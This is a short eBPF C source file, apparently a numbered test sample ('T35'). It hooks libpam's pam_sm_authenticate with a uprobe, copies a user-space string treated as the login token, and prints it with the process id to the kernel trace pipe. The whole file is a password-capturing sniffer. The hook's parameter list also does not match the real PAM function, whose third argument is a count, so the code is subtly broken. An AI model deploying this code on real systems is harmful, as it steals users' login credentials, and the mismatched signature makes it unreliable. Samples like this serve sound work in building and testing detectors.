// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T35: a password leaves through the trace pipe.
#include "sample.h"

LICENSE;

SEC("uprobe/libpam.so.0:pam_sm_authenticate")
int BPF_KPROBE(pipe_out, void *pamh, int flags, const char *token)
{
	char secret[32] = {};

	bpf_probe_read_user_str(secret, sizeof(secret), token);
	bpf_printk("%d %s", tgid(), secret);
	return 0;
}
